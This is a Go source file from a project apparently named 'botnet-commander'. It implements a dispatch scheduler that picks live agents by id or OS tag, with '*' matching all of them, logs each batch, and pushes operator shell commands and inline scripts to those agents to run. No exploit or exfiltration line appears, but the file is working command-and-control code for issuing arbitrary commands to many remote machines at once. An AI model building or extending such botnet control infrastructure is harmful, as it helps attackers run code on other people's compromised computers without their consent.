// Package dispatch is the Dispatch Scheduler: it resolves an
// operator's entity/os filter into a concrete target list of live agent
// ids, reserves a contiguous block of CommandHistory rows for that batch,
// and fans the corresponding ExeCommand/ExeScript frames out to each
// target's live session.
//
// Each target's cmd_id is the row id store.Gateway.AddAgentEvents assigned
// to that target's CommandHistory row, in target-list order; the ids come
// from the store rather than an in-process counter so they survive restarts.
package dispatch

import (
	"context"
	"fmt"
	"time"

	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/protocol"
	"github.com/rpcyber/botnet-commander/internal/store"
)

// perWriteDeadline bounds how long a single target's frame write may take.
// A slow or wedged peer delays only its own slot in the batch, matching the
// original's per-write asyncio.wait_for(timeout=60).
const perWriteDeadline = 60 * time.Second

// Registry is the subset of registry.Manager the scheduler depends on.
type Registry interface {
	LiveTargets(os string) []string
	Send(id string, msg protocol.Message) error
}

// TargetResult records the outcome of dispatching to one target.
type TargetResult struct {
	AgentID string
	CmdID   int64
	Err     error
}

// Scheduler fans dispatch requests out across live sessions.
type Scheduler struct {
	registry Registry
	store    *store.Gateway
	logger   *zap.Logger
	timeout  int // default per-command execution timeout, seconds, told to the agent
}

// New creates a Scheduler. timeout is the default exeCommand/exeScript
// execution timeout (seconds) embedded in dispatched frames; it can be
// changed at runtime via SetTimeout to implement the GET/PUT /timeout
// control-plane endpoint.
func New(registry Registry, gw *store.Gateway, timeout int, logger *zap.Logger) *Scheduler {
	return &Scheduler{registry: registry, store: gw, timeout: timeout, logger: logger.Named("dispatch")}
}

// Timeout returns the current default execution timeout, in seconds.
func (s *Scheduler) Timeout() int { return s.timeout }

// SetTimeout updates the default execution timeout, in seconds.
func (s *Scheduler) SetTimeout(seconds int) { s.timeout = seconds }

// targets resolves entity/os into the live ids to dispatch to. entity is
// "*" for every live agent or a single literal id; os, if non-empty,
// additionally restricts by OS tag.
func (s *Scheduler) targets(entity, os string) []string {
	if entity == "*" {
		return s.registry.LiveTargets(os)
	}
	for _, id := range s.registry.LiveTargets(os) {
		if id == entity {
			return []string{id}
		}
	}
	return nil
}

// ExeCommand dispatches a shell command to every live agent matched by
// entity/os. It persists one CommandHistory row per target before sending
// any frame, so the block of cmd_ids is reserved before dispatch begins.
func (s *Scheduler) ExeCommand(ctx context.Context, entity, os, command string) ([]TargetResult, error) {
	targets := s.targets(entity, os)
	if len(targets) == 0 {
		return nil, nil
	}

	cmdIDs, err := s.store.AddAgentEvents(ctx, targets, "exeCommand", command)
	if err != nil {
		return nil, fmt.Errorf("dispatch: reserve command history rows: %w", err)
	}

	results := make([]TargetResult, len(targets))
	for i, id := range targets {
		cmdID := cmdIDs[i]
		msg := protocol.NewExeCommand(command, s.timeout, cmdID)
		err := s.writeWithDeadline(id, msg)
		results[i] = TargetResult{AgentID: id, CmdID: cmdID, Err: err}
		if err != nil {
			s.logger.Warn("dispatch: exeCommand write failed, continuing batch",
				zap.String("agent_id", id), zap.Error(err))
		}
	}
	return results, nil
}

// ExeScript dispatches an inline script to every live agent matched by
// entity/os. scriptPath is recorded for display/logging; source is the
// literal script body sent to each agent for local execution.
func (s *Scheduler) ExeScript(ctx context.Context, entity, os, scriptPath, scriptType, source string) ([]TargetResult, error) {
	targets := s.targets(entity, os)
	if len(targets) == 0 {
		return nil, nil
	}

	cmdIDs, err := s.store.AddAgentEvents(ctx, targets, "exeScript", scriptPath)
	if err != nil {
		return nil, fmt.Errorf("dispatch: reserve command history rows: %w", err)
	}

	results := make([]TargetResult, len(targets))
	for i, id := range targets {
		cmdID := cmdIDs[i]
		msg := protocol.NewExeScript(scriptPath, scriptType, source, s.timeout, cmdID)
		err := s.writeWithDeadline(id, msg)
		results[i] = TargetResult{AgentID: id, CmdID: cmdID, Err: err}
		if err != nil {
			s.logger.Warn("dispatch: exeScript write failed, continuing batch",
				zap.String("agent_id", id), zap.Error(err))
		}
	}
	return results, nil
}

// writeWithDeadline sends msg to id's live session, bounding the attempt to
// perWriteDeadline so one stalled peer cannot hold up the rest of the batch
// indefinitely. registry.Send with a session writer never blocks (it
// enqueues onto the session's buffered channel, or fails at once when that
// buffer is full), so in practice the deadline only matters for a Writer
// whose Send can block.
func (s *Scheduler) writeWithDeadline(id string, msg protocol.Message) error {
	done := make(chan error, 1)
	go func() {
		done <- s.registry.Send(id, msg)
	}()

	select {
	case err := <-done:
		return err
	case <-time.After(perWriteDeadline):
		return fmt.Errorf("dispatch: write to %s exceeded %s", id, perWriteDeadline)
	}
}
